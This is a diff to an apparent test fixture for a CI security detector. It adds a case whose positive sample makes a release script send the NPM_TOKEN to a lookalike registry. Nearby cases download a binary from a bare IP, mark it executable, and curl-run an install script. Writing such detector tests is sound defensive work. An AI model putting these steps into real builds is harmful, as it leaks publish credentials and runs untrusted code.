@@ -558,6 +558,11 @@ jobs:
       snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSLo install.sh https://get.example.com/install.sh && sha256sum -c sums && sh install.sh\n')),
   },
   {
+    id: 'publish-token-redirect',
+    positive: () => snapshotOf(makeFile('scripts/release.sh', { patch: '@@ -1,2 +1,3 @@\n #!/bin/sh\n-npm publish\n+echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc\n+npm publish --registry https://npm.registry-cdn.dev/' })),
+    negative: () => snapshotOf(makeFile('scripts/release.sh', { patch: '@@ -1,2 +1,3 @@\n #!/bin/sh\n+echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc\n npm publish' })),
+  },
+  {
     id: 'downloaded-binary-run',
     // test/ecosystems/shell/download-run.test.ts has the workflow, script and ADD shapes.
     positive: () => snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -sLo /usr/local/bin/h http://185.199.1.2/h && chmod +x /usr/local/bin/h\nRUN npm ci\n')),
